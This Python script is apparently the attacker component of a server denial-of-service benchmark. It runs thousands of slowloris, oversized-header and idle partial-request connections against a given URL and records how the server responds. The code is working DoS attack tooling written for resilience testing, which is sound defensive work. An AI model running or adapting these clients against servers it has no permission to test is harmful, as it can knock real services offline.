"""The attacker of bench/dos.py, run as its own process (pinned apart from the server when cores
allow): slowloris, big-header and idle partial-head clients against one URL, until SIGTERM.

    python bench/attackers.py http://127.0.0.1:8000 --out attack.json [--idle 5000] [--slowloris 200] ...

Prints `ready {...}` once the idle connections are open, and writes per-attack counts (connections
made, what the server answered, how long connections lived) to --out at the end.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import resource
import signal
import sys
import threading
import time
from collections import Counter
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import urlsplit

import numpy as np

STOP = threading.Event()  # the clients check it: asyncio.wait_for on 3.11 can swallow a cancel


def raise_nofile(needed: int) -> int:
    """Raise this process's soft RLIMIT_NOFILE towards `needed` (up to the hard limit) -> the soft limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    target = needed if hard == resource.RLIM_INFINITY else min(needed, hard)
    if soft != resource.RLIM_INFINITY and soft < target:
        resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))
        soft = target
    return soft


class Tally:
    """What one kind of client saw: connections, answers by status, connection lifetimes."""

    def __init__(self) -> None:
        self.opened = self.connect_errors = self.closed = self.resets = self.open_now = 0
        self.statuses: Counter[str] = Counter()
        self.lifetimes: list[float] = []

    def summary(self) -> dict[str, Any]:
        life = self.lifetimes
        return {"opened": self.opened, "connect_errors": self.connect_errors, "closed_by_server": self.closed,
                "resets": self.resets, "open_at_end": self.open_now, "statuses": dict(self.statuses),
                "lifetime_p50_s": round(float(np.percentile(life, 50)), 3) if life else None,
                "lifetime_max_s": round(max(life), 3) if life else None}


def status_of(data: bytes) -> str:
    return data.split(b" ", 2)[1].decode() if data.startswith(b"HTTP/1.") and data.count(b" ") >= 2 else "none"


async def hold(reader: asyncio.StreamReader, tally: Tally, started: float, first: bytes = b"") -> None:
    """Read until the server closes; record what it answered and how long the connection lived."""
    data = first
    try:
        while chunk := await reader.read(65536):
            data += chunk[: max(0, 64 - len(data))]
        tally.closed += 1
    except (ConnectionResetError, BrokenPipeError):
        tally.resets += 1
    tally.statuses[status_of(data)] += 1
    tally.lifetimes.append(time.monotonic() - started)


async def connect(host: str, port: int, tally: Tally) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
    try:
        pair = await asyncio.open_connection(host, port)
    except OSError:
        tally.connect_errors += 1
        return None
    tally.opened += 1
    tally.open_now += 1
    return pair


class Conn(NamedTuple):
    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter
    started: float  # time.monotonic() when it opened


@asynccontextmanager
async def opened(host: str, port: int, tally: Tally) -> AsyncIterator[Conn | None]:
    """One connection for the body of the `async with` (None when it could not be opened), closed
    and taken off `tally.open_now` afterwards however the body ends."""
    pair = await connect(host, port, tally)
    if pair is None:
        yield None
        return
    try:
        yield Conn(*pair, time.monotonic())
    finally:
        tally.open_now -= 1
        pair[1].close()


async def idle_client(host: str, port: int, tally: Tally, delay: float, reconnect_s: float) -> None:
    await asyncio.sleep(delay)
    while not STOP.is_set():
        async with opened(host, port, tally) as conn:
            if conn:
                conn.writer.write(b"GET /livez HTTP/1.1\r\nHost: x\r\n")  # ... and never the blank line
                await hold(conn.reader, tally, conn.started)
        await asyncio.sleep(reconnect_s)


async def slowloris_client(host: str, port: int, tally: Tally, delay: float, every: float) -> None:
    await asyncio.sleep(delay)
    while not STOP.is_set():
        async with opened(host, port, tally) as conn:
            if not conn:
                await asyncio.sleep(1.0)
                continue
            conn.writer.write(b"POST /v1/score HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n")
            await trickle(conn, tally, every)


async def trickle(conn: Conn, tally: Tally, every: float) -> None:
    """One more header line every `every` s (the head never ends) until the server answers or closes."""
    while not STOP.is_set():
        try:
            first = await asyncio.wait_for(conn.reader.read(65536), timeout=every)
        except asyncio.TimeoutError:
            conn.writer.write(b"X-a: b\r\n")
            continue
        except (ConnectionResetError, BrokenPipeError):
            tally.resets += 1
            tally.lifetimes.append(time.monotonic() - conn.started)
            return
        if not first:
            tally.closed += 1
            tally.statuses["none"] += 1
            tally.lifetimes.append(time.monotonic() - conn.started)
        else:
            await hold(conn.reader, tally, conn.started, first)
        return


async def big_header_client(host: str, port: int, tally: Tally, mib: int) -> None:
    block = b"a" * (1 << 20)
    while not STOP.is_set():
        async with opened(host, port, tally) as conn:
            if not conn:
                await asyncio.sleep(0.5)
                continue
            try:
                conn.writer.write(b"GET /livez HTTP/1.1\r\nHost: x\r\nX-Big: ")
                for _ in range(mib):
                    conn.writer.write(block)
                    await conn.writer.drain()
                conn.writer.write(b"\r\n\r\n")
                await conn.writer.drain()
            except (ConnectionResetError, BrokenPipeError):
                pass  # cut off mid-header; what the server sent first (a 431) may still be readable
            try:
                await asyncio.wait_for(hold(conn.reader, tally, conn.started), timeout=30)
            except asyncio.TimeoutError:
                tally.statuses["no answer in 30s"] += 1
        await asyncio.sleep(0.2)


async def attack(args: argparse.Namespace) -> dict[str, Any]:
    url = urlsplit(args.url)
    host, port = url.hostname or "127.0.0.1", url.port or 80
    tallies = {"slowloris": Tally(), "big-header": Tally(), "idle": Tally()}
    ramp = max(1.0, args.idle / 2500)  # open the idle connections over ~ramp seconds
    tasks = [asyncio.ensure_future(idle_client(host, port, tallies["idle"], ramp * i / max(args.idle, 1),
                                               args.reconnect_s)) for i in range(args.idle)]
    tasks += [asyncio.ensure_future(slowloris_client(host, port, tallies["slowloris"], i * args.slow_every
                                                     / max(args.slowloris, 1), args.slow_every))
              for i in range(args.slowloris)]
    tasks += [asyncio.ensure_future(big_header_client(host, port, tallies["big-header"], args.big_mib))
              for _ in range(args.big_header)]
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, stop.set)
    await asyncio.sleep(ramp + 1.0)
    print("ready", json.dumps({k: t.open_now for k, t in tallies.items()}), flush=True)
    started = time.monotonic()
    await stop.wait()
    summary = {k: t.summary() for k, t in tallies.items()}  # as the attack stood when told to stop
    elapsed = time.monotonic() - started + ramp + 1.0
    for row in summary.values():
        row["opened_per_s"] = round(row["opened"] / elapsed, 1)
    STOP.set()
    for task in tasks:
        task.cancel()
    await asyncio.wait(tasks, timeout=10)
    return summary


def attack_main(argv: list[str]) -> int:
    p = argparse.ArgumentParser(prog="attackers.py", description=__doc__)
    p.add_argument("url")
    p.add_argument("--idle", type=int, default=5000)
    p.add_argument("--slowloris", type=int, default=200)
    p.add_argument("--slow-every", type=float, default=1.0)
    p.add_argument("--big-header", type=int, default=4)
    p.add_argument("--big-mib", type=int, default=16)
    p.add_argument("--reconnect-s", type=float, default=5.0)
    p.add_argument("--out", type=Path, required=True)
    args = p.parse_args(argv)
    raise_nofile(args.idle + args.slowloris + args.big_header + 256)
    try:
        import uvloop

        uvloop.install()  # fewer attacker CPU cycles per connection on the shared core
    except ImportError:
        pass
    result = asyncio.run(attack(args))
    args.out.write_text(json.dumps(result))
    return 0


if __name__ == "__main__":
    sys.exit(attack_main(sys.argv[1:]))
